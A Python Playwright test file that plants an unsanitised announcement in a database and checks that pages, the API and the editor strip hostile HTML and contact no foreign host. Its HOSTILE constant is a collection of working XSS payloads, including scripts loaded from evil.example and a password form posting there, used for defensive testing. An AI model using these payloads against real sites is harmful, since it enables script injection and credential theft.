"""Announcements as an old database may hold them: nobody cleaned them, and pages are safe."""

import json
from collections.abc import Iterator
from secrets import token_hex
from typing import TYPE_CHECKING, Any, Final

import psycopg
import pytest
from playwright.sync_api import expect

from conformance.bench import Bench
from conformance.browser.visits import Visits

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Page, Route

TRIPPED: Final = "window.tripped=1"
# Runs a script, loads something, leads astray, or looks like another page.
HOSTILE: Final = """<p>An <b>old</b> <a href="https://unit.example/">text</a></p>
<script>TRIP</script><script src=https://evil.example/x.js></script>
<img src=x onerror="TRIP"><img src="https://evil.example/seen.png">
<svg onload="TRIP"><script>TRIP</script><a xlink:href="javascript:TRIP">drawn</a></svg>
<p><a href="javascript:TRIP">one</a><a href=" &#106;avascript:TRIP">two</a></p>
<p><a href="data:text/html,<script>TRIP</script>">three</a><a href="vbscript:x">four</a></p>
<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/s.css>
<p style="position: fixed; inset: 0; background: url(https://evil.example/s.png)">over all</p>
<iframe src="javascript:parent.TRIP"></iframe>
<iframe srcdoc="<script>parent.TRIP</script>"></iframe>
<object data=https://evil.example/></object><embed src=https://evil.example/>
<form action="https://evil.example/"><input name=password><button>Go</button></form>
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">
<p onmouseover="TRIP" onclick="TRIP" id=root class=drawer data-loading=1 aria-busy=true>hover</p>
<details open ontoggle="TRIP">x</details><video onerror="TRIP"><source></video>
<math><mtext></form><form><mglyph><style></math><img src onerror="TRIP">
<noscript><p title="</noscript><img src=x onerror=TRIP>">torn</p>
<img name=cookie><a id=location></a><form id=body><input name=attributes></form>
""".replace("TRIP", TRIPPED)
TITLE: Final = f"<img src=x onerror={TRIPPED}> Old"
PICTURES: Final = [
    "javascript:alert(1)",
    f"data:text/html,<script>{TRIPPED}</script>",
    "/old.png",
    "",
]
# What of it may be in a page: the same as what the server lets in today.
ELEMENTS: Final = frozenset(
    {"A", "B", "BLOCKQUOTE", "BR", "EM", "H2", "H3", "H4", "HR", "I", "LI", "OL", "P", "STRONG"}
    | {"S", "SUB", "SUP", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "U", "UL"}
)
HARM: Final = ("<script", "<img", "<svg", "<style", "<iframe", "style=", "onerror=", "javascript:")
READING: Final = (
    "forbidden: Applying inline style violates",
    "forbidden: Setting the document's base URI",
)
HARMLESS: Final = (
    *("target=_blank", "rel=noopener noreferrer nofollow", "title="),
    *("href=https://", "href=http://", "href=mailto:"),
)
SHOWN: Final = """(paper) => [...paper.querySelectorAll('*')]
    .map((one) => [one.tagName, [...one.attributes].map((has) => `${has.name}=${has.value}`)])"""

pytestmark = pytest.mark.usefixtures("no_network_elsewhere")


@pytest.fixture
def row(bench: Bench) -> Iterator[int]:
    """The id of an announcement that holds everything hostile, written past the API."""
    with psycopg.connect(bench.target.stack.database_url, autocommit=True) as database:
        ((number,),) = database.execute(
            "INSERT INTO announcements_announcement"
            " (title, description, type, image_path, images, created_at)"
            " VALUES (%s, %s, 'announcement', %s, %s, now()) RETURNING id",
            (f"{TITLE} {token_hex(4)}", HOSTILE, PICTURES[0], json.dumps(PICTURES)),
        ).fetchall()
        yield number
        database.execute("DELETE FROM announcements_announcement WHERE id = %s", (number,))


@pytest.fixture
def asked() -> list[str]:
    """What pages asked of hosts that are not ours."""
    return []


@pytest.fixture
def no_network_elsewhere(asked: list[str]) -> Iterator[None]:
    """A page that asks a foreign host fails the test."""
    yield
    assert asked == []


def overheard(page: "Page", asked: list[str]) -> "Page":
    """The page, whose talk with foreign hosts is noted, and whatever it pops up."""
    page.on("request", lambda one: asked.append(one.url) if "evil.example" in one.url else None)
    page.on("dialog", lambda one: asked.append(f"dialog: {one.message}"))
    return page


def left_in(paper: "Locator") -> tuple[set[str], set[str]]:
    """The elements of what somebody wrote, and their attributes that are not harmless."""
    found: list[Any] = paper.evaluate(SHOWN)
    attributes = {name for _, names in found for name in names if not name.startswith(HARMLESS)}
    return {tag for tag, _ in found}, attributes


def judge(page: "Page") -> None:
    """The page of the announcement shows its text, and nothing of what was to do harm."""
    page.get_by_text("over all").hover()
    page.get_by_text("hover", exact=True).click()
    elements, attributes = left_in(page.locator("[data-html]"))

    assert {"P", "B", "A"} <= elements <= ELEMENTS
    assert attributes == set()
    assert not tripped(page)
    assert page.locator("main img").count() == 0
    expect(page.get_by_role("heading", level=1)).to_contain_text(TITLE)
    expect(page.locator("[data-html]").get_by_role("link")).to_have_text(["text"])


def told_as_it_is(route: "Route") -> None:
    """The answer, with the text that the row holds."""
    answer = route.fetch()
    route.fulfill(response=answer, json={**answer.json(), "description": HOSTILE})


def tripped(page: "Page") -> bool:
    """Whether any of it was run."""
    return bool(page.evaluate("window.tripped"))


def test_a_row_that_nobody_cleaned_comes_clean_out_of_the_api(visits: Visits, row: int) -> None:
    page = visits.sign_in("cadet", at="/profile")

    with page.expect_response(f"**/api/v1/announcements/{row}/") as read:
        visits.go(page, f"/announcements/{row}")

    told = read.value.json()["description"]
    assert told.startswith('<p>An <b>old</b> <a href="https://unit.example/" rel=')
    assert [word for word in HARM if word in told.lower()] == []


def test_whoever_reads_it_is_not_harmed(visits: Visits, row: int, asked: list[str]) -> None:
    page = overheard(visits.sign_in("cadet", at="/announcements"), asked)

    visits.go(page, f"/announcements/{row}")

    judge(page)


def test_nor_would_he_be_if_the_api_told_all_that_the_row_holds(
    visits: Visits, row: int, asked: list[str]
) -> None:
    page = overheard(visits.sign_in("cadet", at="/announcements"), asked)
    page.route(f"**/api/v1/announcements/{row}/", told_as_it_is)

    visits.go(page, f"/announcements/{row}")

    judge(page)
    # The browser reports what it did not do while it read the text, before anything was shown.
    beside = [one for one in visits.complaints() if not one.startswith(READING)]
    assert beside == []


@pytest.mark.parametrize("role", ["cadet", "admin"])
def test_nor_whoever_has_it_in_a_list(
    role: str, visits: Visits, row: int, asked: list[str]
) -> None:
    page = overheard(visits.sign_in(role, at="/profile"), asked)

    visits.go(page, f"/announcements?search=over+all&type=announcement&page=1#{row}")
    page.get_by_role("link", name=TITLE).first.wait_for()

    assert not tripped(page)
    assert page.locator("main li").locator("img, script, style, iframe").count() == 0


def test_nor_whoever_edits_it_and_what_he_saves_is_clean(
    visits: Visits, row: int, asked: list[str]
) -> None:
    page = overheard(visits.sign_in("admin", at="/profile"), asked)

    visits.go(page, f"/announcements/{row}")
    page.get_by_role("button", name="Edit").click()
    paper = page.get_by_role("textbox", name="Text")
    paper.click()
    page.keyboard.type("Seen. ")
    elements, attributes = left_in(paper)
    with page.expect_response(lambda answer: answer.request.method == "PATCH") as saved:
        page.get_by_role("dialog").get_by_role("button", name="Save").click()

    assert elements <= ELEMENTS
    assert attributes == set()
    kept = str(saved.value.json()["description"]).lower()
    assert "seen." in kept
    assert [word for word in HARM if word in kept] == []
    assert not tripped(page)
